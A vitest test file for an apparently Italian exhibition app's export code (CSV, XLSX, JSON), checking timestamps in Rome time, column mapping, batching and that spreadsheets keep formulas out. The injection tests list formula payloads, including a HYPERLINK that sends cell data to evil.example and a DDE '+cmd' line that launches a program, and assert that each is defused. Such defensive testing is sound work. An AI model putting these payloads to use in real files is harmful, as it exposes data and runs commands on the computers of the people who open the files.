import 'fake-indexeddb/auto';
import { inflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { AttendanceRecord } from './attendance.ts';
import { openRecordsDb } from './db.ts';
import {
  ATTENDANCE_COLUMNS,
  attendanceRow,
  exportCsv,
  exportFileName,
  exportJson,
  exportRows,
  exportXlsx,
  REFLECTION_COLUMNS,
  reflectionRow,
  romeDateTime,
  XlsxBlockedError,
  xlsxCells,
} from './export.ts';
import { Records } from './records.ts';
import type { ReflectionBody } from './reflection.ts';
import { SETTING_KEYS, SETTINGS_VERSION } from './settings.ts';
import { createUuid7 } from './uuid.ts';

const open = async (at = '2026-11-23T09:00:00.000Z') => {
  let clock = Date.parse(at);
  const records = await Records.open({
    station: 'workers-01',
    db: { name: `x-${crypto.randomUUID()}` },
    now: () => clock,
  });
  const setClock = (iso: string) => {
    clock = Date.parse(iso);
  };
  return { records, setClock };
};

const reflection = (text: string, extra: Partial<ReflectionBody> = {}) => ({
  language: 'it',
  text,
  pictograms: [],
  status: 'pending' as const,
  flags: [],
  disclosure: false,
  ...extra,
});

const bytes = async (blob: Blob) => new Uint8Array(await blob.arrayBuffer());
/** The text after the BOM (Blob.text() would drop it silently). */
const csvText = async (blob: Blob) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(await bytes(blob));

/** The files of a zip archive (stored or deflated), read from its central directory. */
function unzip(zip: Uint8Array): Map<string, string> {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  let end = zip.length - 22;
  while (end >= 0 && view.getUint32(end, true) !== 0x06054b50) end--;
  const count = view.getUint16(end + 10, true);
  let at = view.getUint32(end + 16, true);
  const files = new Map<string, string>();
  for (let i = 0; i < count; i++) {
    const method = view.getUint16(at + 10, true);
    const size = view.getUint32(at + 20, true);
    const nameLength = view.getUint16(at + 28, true);
    const skip = nameLength + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
    const name = new TextDecoder().decode(zip.subarray(at + 46, at + 46 + nameLength));
    const local = view.getUint32(at + 42, true);
    const start = local + 30 + view.getUint16(local + 26, true) + view.getUint16(local + 28, true);
    const data = zip.subarray(start, start + size);
    files.set(name, new TextDecoder().decode(method === 8 ? inflateRawSync(data) : data));
    at += 46 + skip;
  }
  return files;
}

/** Seeds `count` valid tally records straight into the store, one transaction (fast). */
async function seed(records: Records, count: number): Promise<void> {
  const db = await openRecordsDb({ name: records.name });
  const newId = createUuid7(() => Date.parse('2026-11-23T09:00:00.000Z'));
  const tx = db.transaction(['attendance', 'settings'], 'readwrite');
  void tx.objectStore('settings').put({ key: SETTING_KEYS.seq, v: SETTINGS_VERSION, value: count });
  for (let seq = 1; seq <= count; seq++) {
    void tx.objectStore('attendance').put({
      id: newId(),
      device: records.deviceId,
      seq,
      event: 'evento-1',
      station: 'workers-01',
      at: '2026-11-23T09:00:00.000Z',
      mono: seq,
      boot: records.bootId,
      synced: 0,
      v: 1,
      kind: 'tally',
      delta: 1,
      reason: '',
    } satisfies AttendanceRecord);
  }
  await tx.done;
  db.close();
}

describe('romeDateTime', () => {
  it('gives the day and time in Rome, across midnight and both summer-time changes', () => {
    expect(romeDateTime('2026-11-22T23:30:00.000Z')).toEqual({ day: '23/11/2026', time: '00:30:00' });
    expect(romeDateTime('2026-07-15T22:15:07.000Z')).toEqual({ day: '16/07/2026', time: '00:15:07' });
    expect(romeDateTime('2026-03-29T00:59:59.999Z')).toEqual({ day: '29/03/2026', time: '01:59:59' });
    expect(romeDateTime('2026-03-29T01:00:00.000Z')).toEqual({ day: '29/03/2026', time: '03:00:00' });
    expect(romeDateTime('2026-10-25T00:30:00.000Z')).toEqual({ day: '25/10/2026', time: '02:30:00' });
    expect(romeDateTime('2026-10-25T01:30:00.000Z')).toEqual({ day: '25/10/2026', time: '02:30:00' });
    expect(romeDateTime('2026-12-31T23:00:00.000Z')).toEqual({ day: '01/01/2027', time: '00:00:00' });
  });

  it('agrees with Intl for every second of sample hours', () => {
    const day = new Intl.DateTimeFormat('it-IT', {
      timeZone: 'Europe/Rome',
      day: '2-digit',
      month: '2-digit',
      year: 'numeric',
    });
    const time = new Intl.DateTimeFormat('it-IT', { timeZone: 'Europe/Rome', timeStyle: 'medium' });
    for (const start of [Date.UTC(2026, 2, 29, 0, 0, 0), Date.UTC(2026, 9, 24, 22, 0, 0)]) {
      for (let ms = start; ms < start + 3 * 3_600_000; ms += 7_919) {
        const date = new Date(ms);
        const expected = { day: day.format(date), time: time.format(date) };
        expect(romeDateTime(date.toISOString())).toEqual(expected);
      }
    }
  });
});

describe('exportRows', () => {
  it('maps every attendance kind onto the Italian columns, numbers as numbers', async () => {
    const { records } = await open('2026-11-22T23:30:00.000Z');
    const written = [
      await records.addAttendance({ kind: 'check-in', group: '3B Liceo Golgi', size: 24 }),
      await records.addAttendance({ kind: 'tally', delta: -2, reason: 'contati due volte' }),
      await records.addAttendance({
        kind: 'journey-end',
        installation: 'workers',
        journey: 'campo',
        language: 'ar',
        durationMs: 183_600,
      }),
      await records.addAttendance({
        kind: 'choice',
        installation: 'workers',
        journey: 'campo',
        language: 'it',
        step: 'offerta',
        key: 'accetta',
        timedOut: false,
      }),
      await records.addAttendance({
        kind: 'abandon',
        installation: 'workers',
        journey: 'campo',
        language: 'it',
        step: null,
        reason: 'idle',
        durationMs: 4_400,
      }),
    ];
    const correction = await records.addAttendance({
      kind: 'correction',
      corrects: written[0]?.id ?? '',
      value: 23,
      reason: '=1+1',
    });
    const rows = exportRows([...written, correction], 'attendance');
    expect(Object.keys(rows[0] ?? {})).toEqual([...ATTENDANCE_COLUMNS]);
    expect(rows[0]).toMatchObject({
      Data: '23/11/2026',
      Ora: '00:30:00',
      Evento: '',
      Postazione: 'workers-01',
      Dispositivo: records.deviceId,
      Sequenza: 1,
      Tipo: 'check-in',
      Gruppo: '3B Liceo Golgi',
      Persone: 24,
      Id: written[0]?.id,
    });
    expect(rows[1]).toMatchObject({ Tipo: 'tally', Persone: -2, Motivo: 'contati due volte' });
    expect(rows[2]).toMatchObject({ Percorso: 'campo', Lingua: 'ar', 'Durata (s)': 184, Persone: '' });
    expect(rows[3]).toMatchObject({ Passo: 'offerta', Scelta: 'accetta' });
    expect(rows[4]).toMatchObject({ Passo: '', Motivo: 'idle', 'Durata (s)': 4 });
    expect(rows[5]).toMatchObject({ Persone: 23, Corregge: written[0]?.id, Motivo: "'=1+1" });
  });

  it('maps reflections with Italian statuses, joined lists and defused text', async () => {
    const { records } = await open();
    const stored = await records.addReflection(
      reflection('@SUM(A1:A9)', { pictograms: ['hope', 'anger'], flags: ['sfruttamento', '-x'] }),
    );
    const row = reflectionRow({ ...stored, status: 'private' });
    expect(Object.keys(row)).toEqual([...REFLECTION_COLUMNS]);
    expect(row).toMatchObject({
      Data: '23/11/2026',
      Ora: '10:00:00',
      Lingua: 'it',
      Testo: "'@SUM(A1:A9)",
      Pittogrammi: 'hope, anger',
      Stato: 'riservato',
      Segnalazioni: 'sfruttamento, -x',
      Id: stored.id,
    });
    expect(
      ['pending', 'approved', 'hidden'].map((s) => reflectionRow({ ...stored, status: s as 'hidden' }).Stato),
    ).toEqual(['in attesa', 'approvato', 'nascosto']);
  });

  it('defuses staff text in attendance rows', () => {
    const row = attendanceRow({
      id: '019a0000-0000-7000-8000-000000000001',
      device: 'device-1',
      seq: 1,
      event: '+evento',
      station: 's1',
      at: '2026-11-23T09:00:00.000Z',
      mono: 0,
      boot: 'boot-0001',
      synced: 0,
      v: 1,
      kind: 'check-in',
      group: '=HYPERLINK("http://x.example")',
      size: 3,
    });
    expect(row.Gruppo).toBe(`'=HYPERLINK("http://x.example")`);
    expect(row.Evento).toBe("'+evento");
  });
});

describe('exportCsv', () => {
  it('writes a BOM, a header, `;` between cells and CRLF after every record', async () => {
    const { records, setClock } = await open('2026-07-15T22:15:07.000Z');
    await records.addAttendance({ kind: 'tally', delta: 1, reason: '' });
    setClock('2026-11-22T23:30:00.000Z');
    await records.addAttendance({ kind: 'check-in', group: '4A', size: 22 });
    const blob = await exportCsv(records, 'attendance');
    expect(blob.type).toBe('text/csv;charset=utf-8');
    expect([...(await bytes(blob)).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = await csvText(blob);
    expect(text.startsWith('\uFEFFData;Ora;Evento;Postazione;')).toBe(true);
    const lines = text.slice(1).split('\r\n');
    expect(lines).toHaveLength(4);
    expect(lines[3]).toBe('');
    expect(lines[0]).toBe(ATTENDANCE_COLUMNS.join(';'));
    expect(lines[1]?.startsWith(`16/07/2026;00:15:07;;workers-01;${records.deviceId};1;tally;;1;;`)).toBe(
      true,
    );
    expect(lines[2]?.startsWith('23/11/2026;00:30:00;;workers-01;')).toBe(true);
    expect(lines[2]).toContain(';2;check-in;4A;22;');
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('quotes cells holding `;`, quotes or line breaks', async () => {
    const { records } = await open();
    await records.addReflection(reflection('uno; due "tre"\nquattro\r\ncinque'));
    const text = await csvText(await exportCsv(records, 'reflections'));
    expect(text).toContain(';"uno; due ""tre""\nquattro\r\ncinque";');
  });

  it('defuses injection payloads in visitor text', async () => {
    const { records } = await open();
    const payloads = [
      '=HYPERLINK("http://evil.example/?d="&A1;"premi")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
      '\t=1+1',
      '＝1+1',
    ];
    for (const text of payloads) await records.addReflection(reflection(text));
    const text = await csvText(await exportCsv(records, 'reflections'));
    const cells = text
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(';')[5]);
    expect(cells).toEqual([
      `"'=HYPERLINK(""http://evil.example/?d=""&A1`,
      "'+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(1+1)",
      "'\t=1+1",
      "'＝1+1",
    ]);
  });

  it('writes only the header for an empty store and reports 0 of 0', async () => {
    const { records } = await open();
    const progress: [number, number][] = [];
    const text = await csvText(await exportCsv(records, 'reflections', (d, t) => progress.push([d, t])));
    expect(text).toBe(`\uFEFF${REFLECTION_COLUMNS.join(';')}\r\n`);
    expect(progress).toEqual([[0, 0]]);
  });

  it('reports progress after every batch up to the total, and stops when aborted', async () => {
    const { records } = await open();
    await seed(records, 4500);
    const progress: [number, number][] = [];
    const blob = await exportCsv(records, 'attendance', (d, t) => progress.push([d, t]));
    expect(progress).toEqual([
      [2000, 4500],
      [4000, 4500],
      [4500, 4500],
    ]);
    expect((await csvText(blob)).split('\r\n')).toHaveLength(4502);

    const controller = new AbortController();
    const seen: number[] = [];
    const cancelled = exportCsv(
      records,
      'attendance',
      (done) => {
        seen.push(done);
        controller.abort();
      },
      controller.signal,
    );
    await expect(cancelled).rejects.toMatchObject({ name: 'AbortError' });
    await expect(cancelled).rejects.toBeInstanceOf(DOMException);
    expect(seen).toEqual([2000]);
    await expect(exportJson(records, 'attendance', undefined, AbortSignal.abort())).rejects.toMatchObject({
      name: 'AbortError',
    });
  });

  it('exports 20k records in batches', async () => {
    const { records } = await open();
    await seed(records, 20_000);
    let last = 0;
    const text = await csvText(
      await exportCsv(records, 'attendance', (done) => {
        last = done;
      }),
    );
    expect(last).toBe(20_000);
    const lines = text.split('\r\n');
    expect(lines).toHaveLength(20_002);
    expect(lines[20_000]?.startsWith('23/11/2026;10:00:00;evento-1;workers-01;')).toBe(true);
  }, 20_000);
});

describe('exportXlsx', () => {
  it('types every text cell as String and every count as Number', () => {
    const cells = xlsxCells({ Testo: "'=1+1", Persone: 3, Gruppo: '' }, ['Testo', 'Persone', 'Gruppo']);
    expect(cells).toEqual([{ type: String, value: "'=1+1" }, { type: Number, value: 3 }, null]);
  });

  it('writes a workbook whose cells hold the defused text as strings, never formulas', async () => {
    const { records } = await open();
    await records.addReflection(reflection('=HYPERLINK("http://evil.example")'));
    await records.addAttendance({ kind: 'check-in', group: '@SUM(A1)', size: 12 });
    const progress: number[] = [];
    const blob = await exportXlsx(records, 'reflections', (done) => progress.push(done));
    expect(progress).toEqual([1]);
    const zip = await bytes(blob);
    expect(String.fromCharCode(zip[0] ?? 0, zip[1] ?? 0)).toBe('PK');
    const files = unzip(zip);
    const strings = files.get('xl/sharedStrings.xml') ?? '';
    const sheet = files.get('xl/worksheets/sheet1.xml') ?? '';
    expect(strings).toContain(`<t>'=HYPERLINK("http://evil.example")</t>`);
    expect(strings).toContain('in attesa');
    expect(sheet).toMatch(/<c r="F2" t="s"><v>\d+<\/v><\/c>/);
    expect(sheet).not.toContain('<f>');
    expect(files.get('xl/workbook.xml')).toContain('name="Riflessioni"');

    const attendance = unzip(await bytes(await exportXlsx(records, 'attendance')));
    expect(attendance.get('xl/sharedStrings.xml')).toContain("<t>'@SUM(A1)</t>");
    expect(attendance.get('xl/worksheets/sheet1.xml')).toMatch(/<c r="I2"[^>]*><v>12<\/v><\/c>/);
  });

  it('fails at once, instead of waiting for ever, when the page blocks the zip worker', async () => {
    const { records } = await open();
    await records.addAttendance({ kind: 'tally', delta: 1, reason: '' });
    const page = new EventTarget();
    (globalThis as { document?: unknown }).document = page;
    try {
      const stuck = exportXlsx(records, 'attendance', undefined, undefined, async () => () => ({
        toBlob: () => {
          const violation = Object.assign(new Event('securitypolicyviolation'), {
            effectiveDirective: 'worker-src',
            blockedURI: 'blob',
          });
          setTimeout(() => page.dispatchEvent(violation), 1);
          return new Promise<Blob>(() => {});
        },
      }));
      await expect(stuck).rejects.toBeInstanceOf(XlsxBlockedError);
    } finally {
      delete (globalThis as { document?: unknown }).document;
    }
  });

  it('uses the writer it is given', async () => {
    const { records } = await open();
    await records.addAttendance({ kind: 'tally', delta: 1, reason: '' });
    let rows = 0;
    const blob = await exportXlsx(records, 'attendance', undefined, undefined, async () => (data) => {
      rows = data.length;
      return { toBlob: async () => new Blob(['x']) };
    });
    expect(rows).toBe(2);
    expect(await blob.text()).toBe('x');
  });
});

describe('exportJson', () => {
  it('writes the raw records with a header that parses back to the same count', async () => {
    const { records } = await open();
    await seed(records, 4100);
    await records.addAttendance({ kind: 'tally', delta: 2, reason: 'seconda "porta"; ingresso' });
    const parsed = JSON.parse(await (await exportJson(records, 'attendance')).text());
    expect(parsed).toMatchObject({
      format: 'percorso-records',
      version: 1,
      device: records.deviceId,
      store: 'attendance',
    });
    expect(Number.isNaN(Date.parse(parsed.exportedAt))).toBe(false);
    expect(parsed.records).toHaveLength(4101);
    expect(parsed.records.find((r: AttendanceRecord) => r.seq === 4101)).toMatchObject({
      reason: 'seconda "porta"; ingresso',
    });
  });

  it('writes an empty array for an empty store', async () => {
    const { records } = await open();
    expect(JSON.parse(await (await exportJson(records, 'reflections')).text()).records).toEqual([]);
  });
});

describe('exportFileName', () => {
  it('names the store in Italian and the day in Rome', () => {
    const late = new Date('2026-11-22T23:30:00.000Z');
    expect(exportFileName('attendance', 'csv', late)).toBe('percorso-presenze-2026-11-23.csv');
    expect(exportFileName('reflections', 'xlsx', late)).toBe('percorso-riflessioni-2026-11-23.xlsx');
    expect(exportFileName('attendance', 'json', new Date('2026-07-01T12:00:00Z'))).toBe(
      'percorso-presenze-2026-07-01.json',
    );
  });
});
